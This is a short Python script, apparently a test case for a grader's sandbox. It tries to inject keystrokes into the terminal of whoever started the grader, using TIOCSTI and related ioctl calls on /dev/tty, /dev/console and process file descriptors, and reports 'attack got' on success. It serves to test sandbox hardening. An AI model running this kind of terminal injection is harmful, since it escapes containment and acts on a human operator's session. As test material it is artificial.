# goal: type into the terminal of whoever started the grader
# seen: nothing
# within_s: 10
# lacks: attack got
import fcntl
import os

for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/proc/1/fd/0", "/proc/self/fd/2"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    for request in (0x5412, 0x541C, 0x80045430):
        try:
            fcntl.ioctl(descriptor, request, b"#")
            print("attack got", path)
        except OSError:
            continue
    os.close(descriptor)
